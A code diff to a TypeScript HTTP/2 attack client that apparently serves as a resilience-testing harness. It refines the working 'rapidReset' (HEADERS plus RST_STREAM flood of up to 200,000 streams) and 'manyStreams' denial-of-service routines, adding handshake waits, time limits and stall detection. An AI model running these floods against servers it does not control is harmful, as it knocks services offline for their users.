@@ -64,6 +64,12 @@ export interface RawHttp2 {
   goawayCode(): number | undefined;
   /** Frames of a type counted as they arrive (RST_STREAM, PING ACKs ...). */
   framesOfType(type: number): number;
+  /**
+   * Resolves once the server's first SETTINGS came (and, with ackSettings,
+   * was ACKed), as real clients wait before a burst of requests (grpc-go
+   * sends nothing before; nghttp2 and Go assume 100 streams at most until then).
+   */
+  serverSettings(): Promise<void>;
   /** Writes, waiting for the socket to drain; false once the connection is gone. */
   send(bytes: Buffer): Promise<boolean>;
   close(): void;
@@ -86,6 +92,8 @@ export function openRawHttp2(target: Pick<AttackTarget, 'host' | 'port'>, option
     let goaway: number | undefined;
     const counts = new Map<number, number>();
     let pending: Buffer = Buffer.alloc(0);
+    let settingsCame: () => void = () => {};
+    const settingsReceived = new Promise<void>((resolve) => (settingsCame = resolve));
     socket.on('data', (chunk: Buffer) => {
       received += chunk.length;
       // Parse frames only while the backlog is small: this is a client for attacks, not a codec.
@@ -98,7 +106,10 @@ export function openRawHttp2(target: Pick<AttackTarget, 'host' | 'port'>, option
         const flags = pending[offset + 4]!;
         counts.set(type, (counts.get(type) ?? 0) + 1);
         if (type === frameType.goaway && length >= 8) goaway = pending.readUInt32BE(offset + 13);
-        if (type === frameType.settings && (flags & 0x1) === 0 && ackSettings && !socket.destroyed) socket.write(settingsAck);
+        if (type === frameType.settings && (flags & 0x1) === 0) {
+          if (ackSettings && !socket.destroyed) socket.write(settingsAck);
+          settingsCame();
+        }
         offset += 9 + length;
       }
       pending = pending.subarray(offset);
@@ -119,6 +130,7 @@ export function openRawHttp2(target: Pick<AttackTarget, 'host' | 'port'>, option
         serverClosed: () => closed,
         goawayCode: () => goaway,
         framesOfType: (type) => counts.get(type) ?? 0,
+        serverSettings: () => Promise.race([settingsReceived, new Promise<void>((resolve) => socket.once('close', () => resolve()))]),
         send: (bytes) =>
           new Promise<boolean>((done) => {
             if (closed || socket.destroyed) return done(false);
@@ -258,21 +270,33 @@ async function prefaceFlood(target: AttackTarget, scale: AttackScale): Promise<A
 async function rapidReset(target: AttackTarget, scale: AttackScale): Promise<AttackFigures> {
   const streams = scale === 'short' ? 5_000 : 200_000;
   const connection = await openRawHttp2(target);
+  await connection.serverSettings();
   const started = performance.now();
   let sentStreams = 0;
   try {
     const rst = Buffer.alloc(4);
     rst.writeUInt32BE(0x8); // CANCEL
-    for (let id = 1; sentStreams < streams && performance.now() - started < 60_000; ) {
+    const timeLimitMs = scale === 'short' ? 10_000 : 60_000;
+    let stalled = false;
+    for (let id = 1; sentStreams < streams; ) {
       const pieces: Buffer[] = [];
-      for (let i = 0; i < 100 && sentStreams < streams; i++, id += 2, sentStreams++) {
+      let batch = 0;
+      for (; batch < 100 && sentStreams + batch < streams; batch++, id += 2) {
         pieces.push(rangeRequestHeaders(id, target.endpoint, false), frame(frameType.rstStream, 0, id, rst));
       }
-      if (!(await connection.send(Buffer.concat(pieces)))) break;
+      const remainingMs = timeLimitMs - (performance.now() - started);
+      // A server that stops reading (and does not close) must not hold the attack past its time.
+      const sent = remainingMs > 0 && (await Promise.race([connection.send(Buffer.concat(pieces)), sleep(remainingMs).then(() => 'stalled' as const)]));
+      if (sent === 'stalled' || sent === false) {
+        stalled = sent === 'stalled' || remainingMs <= 0;
+        break;
+      }
+      sentStreams += batch;
     }
     await sleep(200);
     return {
       streamsReset: sentStreams,
+      serverStoppedReading: stalled,
       elapsedMs: Math.round(performance.now() - started),
       serverClosed: connection.serverClosed(),
       goawayCode: connection.goawayCode() ?? 'none',
@@ -340,6 +364,7 @@ async function manyStreams(target: AttackTarget, scale: AttackScale): Promise<At
   const streams = scale === 'short' ? 500 : 5_000;
   const holdMs = scale === 'short' ? 1_000 : 5_000;
   const connection = await openRawHttp2(target);
+  await connection.serverSettings();
   try {
     const pieces: Buffer[] = [];
     for (let i = 0; i < streams; i++) pieces.push(rangeRequestHeaders(1 + 2 * i, target.endpoint, false));
